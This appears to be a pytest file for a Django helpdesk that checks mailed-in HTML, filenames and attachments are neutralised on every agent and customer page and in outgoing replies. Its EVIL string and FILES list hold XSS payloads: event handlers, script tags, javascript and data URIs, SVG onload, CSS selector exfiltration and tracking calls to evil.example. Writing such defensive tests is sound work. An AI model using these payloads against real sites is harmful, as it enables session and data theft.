"""What an attacker mails, on every page that shows it and in what we send about it."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from html.parser import HTMLParser

import pytest
from django.http import HttpResponse
from django.test import Client
from django.urls import reverse

from messaging.tasks import deliver_mail
from people.models import Team, User
from tests.messaging.conftest import CatchingServer, Deliver, a_mail, body, sent_reply
from tickets.models import Attachment, Ticket

LogIn = Callable[[User], Client]
IMG = "<img src=x onerror=alert(1)>"
EVIL = (
    f"<p onclick=steal()>Hello {IMG}<script>steal()</script>"
    '<img srcset="https://evil.example/1 2x"><img src="../../account/logout/" alt="up">'
    '<img src="https://evil.example/pixel.png"><img src="data:image/svg+xml,<svg onload=steal()>">'
    '<a href="data:text/html,steal">one</a><a href="java&#10;script:steal()">two</a>'
    '<picture><source srcset="https://evil.example/2"></picture><svg onload=steal()></svg>'
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>"
    '<link rel=stylesheet href="https://evil.example/c.css"><body background="//evil.example/b">'
    '<div style="background:url(https://evil.example/d)">three</div><img src="cid:drawing"></p>'
)
#: Where a page may take something from without being asked.
OURS = re.compile(r"/(?!/)|#|$")
#: A name, the type that the sender claims, and what is in it.
FILES = [
    ("drawing.svg", "image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg' onload='steal()'/>"),
    ("lamp.png", "image/png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='steal()'/>"),
    ("page.html", "text/html", b"<!doctype html><script>steal()</script>"),
    ("photo.jpg", "image/jpeg", b"<!doctype html><script>steal()</script>"),
    (f"{IMG}.txt", "text/plain", b"x"),
]


class Markup(HTMLParser):
    """What of a page would act or ask somebody else, as its reader's browser takes it."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.acts: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in {"style", "iframe", "object", "embed", "base"} or (
            tag == "script" and "src" not in given and given.get("type") != "importmap"
        ):
            self.acts.append(tag)
        for name, value in given.items():
            asks = name in {"src", "srcset", "poster", "background", "data", "action"}
            if (
                name.startswith("on")
                or name == "style"
                or (asks and not OURS.match(value))
                or (name == "href" and tag != "a" and not OURS.match(value))
                or (name == "href" and re.match(r"\s*(?:java|data|vb)", value))
            ):
                self.acts.append(f"{tag} {name}={value}")


@pytest.fixture
def attacked(deliver: Deliver, orders: Team, ana: User) -> Ticket:
    """A ticket out of one mail with all of it, and of its second one."""
    mail = a_mail(IMG, sender=f'"{IMG}" <eve@evil.example>', subject=IMG, html=EVIL)
    for name, kind, content in FILES:
        main, _slash, sub = kind.partition("/")
        mail.add_attachment(
            content,
            maintype=main,
            subtype=sub,
            filename=name,
            cid="<drawing>" if name == "drawing.svg" else None,
        )
    answer = deliver(mail)
    assert answer["outcome"] == "accepted"
    return Ticket.objects.get(number=answer["ticket"])


def where_is(ticket: Ticket) -> str:
    return reverse("desk_ticket", args=[ticket.number])


def pages(log_in: LogIn, ana: User, ticket: Ticket) -> Iterator[HttpResponse]:
    agent, number = log_in(ana), ticket.number
    first = ticket.messages.first()
    assert first is not None
    here = where_is(ticket)
    yield agent.get(here)
    yield agent.get(here, headers={"HX-Request": "true", "HX-Boosted": "true"})
    yield agent.get(here, {"message": first.pk, "pictures": first.pk})
    yield agent.get(reverse("desk_since", args=[number]), {"seen": "0"})
    yield agent.get(reverse("desk_message", args=[number, first.pk]))
    yield agent.get(reverse("desk_message_pictures", args=[number, first.pk]))
    yield agent.get("/desk/queues/open/")
    yield agent.get("/desk/search/", {"q": "onerror"})
    yield agent.get("/desk/search/suggest/", {"q": "onerror"})
    yield agent.get(reverse("desk_customer", args=[ticket.customer_id]))
    yield Client().get(reverse("portal_request", args=[ticket.access_key]))


@pytest.mark.django_db
def test_nothing_in_a_mail_acts_on_any_page_or_in_our_answer(
    attacked: Ticket, log_in: LogIn, ana: User, server: CatchingServer
) -> None:
    for page in pages(log_in, ana, attacked):
        html = page.content.decode()
        where = page.wsgi_request.path
        assert page.status_code == 200, where
        assert Markup(html).acts == [], where
        assert "steal" not in html, where
        assert "unsafe" not in page["Content-Security-Policy"], where
    title = re.search("<title>(.*?)</title>", log_in(ana).get(where_is(attacked)).content.decode())
    assert title
    assert "&lt;img src=x onerror=alert(1)&gt;" in title[1]
    deliver_mail(sent_reply(attacked, ana).pk)
    (sent,) = server.mails
    html = body(sent, "html")
    assert Markup(re.sub(r' style="[^"]*"', "", html)).acts == []
    assert "steal" not in html
    assert "evil.example/" not in html


@pytest.mark.django_db
def test_no_file_of_a_mail_is_ever_opened_by_the_browser_whatever_it_claims_to_be(
    attacked: Ticket, log_in: LogIn, ana: User
) -> None:
    files = list(Attachment.objects.order_by("pk"))
    assert len(files) == len(FILES)
    agent = log_in(ana)
    for file in files:
        assert agent.get(reverse("desk_preview", args=[file.key])).status_code == 404
        for answer in (
            agent.get(reverse("desk_attachment", args=[file.key])),
            Client().get(reverse("portal_file", args=[attacked.access_key, file.key])),
        ):
            assert answer.status_code == 200
            assert answer["Content-Disposition"].startswith("attachment;"), file.name
            assert answer["Content-Type"] == "application/octet-stream"
            assert answer["X-Content-Type-Options"] == "nosniff"
            assert "sandbox" in answer["Content-Security-Policy"]
            assert "\n" not in answer["Content-Disposition"]
